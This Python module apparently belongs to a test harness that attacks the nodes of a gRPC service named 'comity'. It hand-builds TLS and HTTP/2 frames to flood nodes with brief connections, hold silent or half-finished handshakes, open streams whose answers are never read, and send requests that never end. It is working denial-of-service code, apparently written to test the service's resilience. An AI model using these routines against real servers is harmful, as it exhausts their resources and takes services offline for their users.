"""Connections of strangers, byte by byte: closed at once, held silent, or stalled within HTTP/2.

Functions of a host, a port and counts, on sockets of their own and without gRPC.
"""

from __future__ import annotations

import contextlib
import itertools
import random
import socket
import ssl
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Self

from support.raw_bytes import message

from attackers.attacker import Target, attacker
from attackers.calling import SOURCES

PATIENCE = 5.0
"""Seconds that a connection may take to be made."""


def client_hello() -> bytes:
    """The first flight of a TLS handshake."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    handshake = _context().wrap_bio(incoming, outgoing)
    with contextlib.suppress(ssl.SSLWantReadError):
        handshake.do_handshake()
    return outgoing.read()


def brief_connections(host: str, port: int, count: int, *, threads: int = 8) -> int:
    """Make `count` connections, send all or a part of a ClientHello, or nothing, and close. Returns how many
    were made.
    """
    hello = client_hello()
    made = [0] * threads

    def pass_by(number: int) -> None:
        chance = random.Random(number)
        for _ in range(count // threads):
            with contextlib.suppress(OSError), socket.create_connection((host, port), PATIENCE) as connection:
                connection.sendall(hello[: chance.choice((0, 1, 100, len(hello)))])
                made[number] += 1

    workers = [threading.Thread(target=pass_by, args=(number,)) for number in range(threads)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    return sum(made)


@contextlib.contextmanager
def silent(host: str, port: int, count: int, *, begun: bool = False, source: str = "") -> Iterator[list[socket.socket]]:
    """Hold `count` open connections that send nothing, or, with `begun`, half of a ClientHello. `source` is the address
    to connect from: on loopback, each 127.x.y.z can be used.
    """
    hello = client_hello() if begun else b""
    held = []
    try:
        for _ in range(count):
            with contextlib.suppress(OSError):
                connection = socket.create_connection((host, port), PATIENCE, _from(source))
                held.append(connection)
                connection.sendall(hello[: len(hello) // 2])
        yield held
    finally:
        for connection in held:
            connection.close()


@dataclass
class Stream:
    """An HTTP/2 connection of our own for incomplete and invalid calls."""

    connection: ssl.SSLSocket
    begun: int = 0

    @classmethod
    def connect(cls, host: str, port: int, *, source: str = "", window: int = 0) -> Self:
        """Connect, and let the server send `window` bytes on each stream."""
        plain = socket.create_connection((host, port), PATIENCE, _from(source))
        connection = _context().wrap_socket(plain, server_hostname="n.comity.invalid")
        setting = (4).to_bytes(2, "big") + window.to_bytes(4, "big")
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, setting))
        return cls(connection)

    def call(self, method: str, request: bytes = b"") -> None:
        """A complete request for `Service/Method`, whose answer is not read."""
        self._send(method, _message(request), end=True)

    def half(self, method: str, sent: int = 0, size: int = 4 << 20) -> None:
        """Announce a request of `size` bytes, and send `sent` of them."""
        self._send(method, b"\0" + size.to_bytes(4, "big") + bytes(sent), end=False)

    def ended(self, patience: float) -> bool:
        """Read the server's bytes. Returns whether it closes the connection before it is silent for
        `patience` seconds.
        """
        self.connection.settimeout(patience)
        try:
            while self.connection.recv(65_536):
                pass
        except TimeoutError:
            return False
        except OSError:
            return True
        return True

    def received(self, patience: float = PATIENCE) -> bytes:
        """The server's bytes until it is silent for `patience` seconds, unparsed."""
        self.connection.settimeout(patience)
        said = bytearray()
        with contextlib.suppress(OSError):
            while data := self.connection.recv(65_536):
                said += data
        return bytes(said)

    def close(self) -> None:
        self.connection.close()

    def _send(self, method: str, data: bytes, *, end: bool) -> None:
        stream = 2 * self.begun + 1
        self.begun += 1
        frames = _frame(1, 4, stream, _headers(method))
        chunks = [data[at : at + 16_384] for at in range(0, len(data), 16_384)]
        for number, chunk in enumerate(chunks):
            frames += _frame(0, int(end and number == len(chunks) - 1), stream, chunk)
        self.connection.sendall(frames)


def _headers(method: str) -> bytes:
    fields = (
        (":method", "POST"),
        (":scheme", "https"),
        (":path", f"/comity.v1.{method}"),
        (":authority", "n.comity.invalid"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        ("grpc-timeout", "3000S"),
    )
    return b"".join(
        b"\0" + b"".join(bytes([len(part)]) + part.encode() for part in field) for field in fields
    )  # literals that are not indexed, and not Huffman-coded


def _message(data: bytes) -> bytes:
    return b"\0" + len(data).to_bytes(4, "big") + data


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def _from(source: str) -> tuple[str, int] | None:
    return (source, 0) if source else None


def _context() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


@attacker("a thousand connections that are closed immediately", "K1", by="stranger", emits=lambda: (client_hello(),))
def closed_connections(target: Target) -> None:
    for victim in target.victims:
        for address in (victim.mutual, victim.open):
            target.sent[victim.name] += 100 * brief_connections(*_split(address), 1_000)


@attacker("silent connections and incomplete handshakes", "H6", by="stranger")
def held_connections(target: Target) -> None:
    with contextlib.ExitStack() as held:
        for victim in target.victims:
            for address, begun in itertools.product((victim.mutual, victim.open), (False, True)):
                held.enter_context(silent(*_split(address), 250, begun=begun, source=SOURCES[0]))
        target.hold()


@attacker("answers of the open port that are never read", "H5", by="addresses")
def untaken_answers(target: Target) -> None:
    """As many streams and single answers as each of four addresses may have, with an HTTP/2 window of 0."""
    claims = message((1, bytes.fromhex(target.known.artifacts[0])))
    with contextlib.ExitStack() as held:
        for victim, source in itertools.product(target.victims, SOURCES):
            with contextlib.suppress(OSError):
                stream = Stream.connect(*_split(victim.open), source=source)
                held.callback(stream.close)
                for _ in range(16):
                    stream.call("ArtifactService/GetClaims", claims)
                    stream.call("NodeService/GetNode")
        target.hold()


@attacker("reads of files that are never read", "M1", by="addresses")
def untaken_reads(target: Target) -> None:
    """As many reads as each of four addresses may have, with an HTTP/2 window of 0."""
    _hold_reads(target, window=0)


@attacker("reads that stop after the first bytes", "own", by="addresses")
def begun_reads(target: Target) -> None:
    """The same, of which each receives 64 KiB, so that the node has made progress and reads ahead."""
    _hold_reads(target, window=65_535)


@attacker("the largest answers of every kind, never read", "own", by="addresses")
def untaken_kinds(target: Target) -> None:
    """Entries, records, objects and files in turn."""
    file, artifact = (bytes.fromhex(each) for each in (target.known.files[0], target.known.artifacts[0]))
    with contextlib.ExitStack() as held:
        for victim, source in itertools.product(target.victims, SOURCES):
            entries = message((1, victim.origin), (2, 0), (3, 65_536))
            with contextlib.suppress(OSError):
                stream = Stream.connect(*_split(victim.open), source=source)
                held.callback(stream.close)
                for _ in range(8):
                    stream.call("LogService/GetEntries", entries)
                    stream.call("BlobService/GetRecords", message((1, file), (2, "fixed-4MiB/1")))
                    stream.call("BlobService/GetObject", message((1, artifact)))
                    stream.call("BlobService/Read", message((1, file), (3, 1 << 30)))
        target.hold()


def _hold_reads(target: Target, window: int) -> None:
    read = message((1, bytes.fromhex(target.known.files[0])), (3, 1 << 30))
    with contextlib.ExitStack() as held:
        for victim, source in itertools.product(target.victims, SOURCES):
            with contextlib.suppress(OSError):
                stream = Stream.connect(*_split(victim.open), source=source, window=window)
                held.callback(stream.close)
                for _ in range(32):
                    stream.call("BlobService/Read", read)
        target.hold()


@attacker("requests of 4 MiB that never end", "M1", by="addresses")
def half_requests(target: Target) -> None:
    with contextlib.ExitStack() as held:
        for victim, source in itertools.product(target.victims, SOURCES):
            with contextlib.suppress(OSError):
                stream = Stream.connect(*_split(victim.open), source=source)
                held.callback(stream.close)
                for _ in range(32):
                    stream.half("BlobService/Stat", 1_500)
                    target.sent[victim.name] += 1_600
        target.hold()


def _split(address: str) -> tuple[str, int]:
    host, _, port = address.rpartition(":")
    return host, int(port)
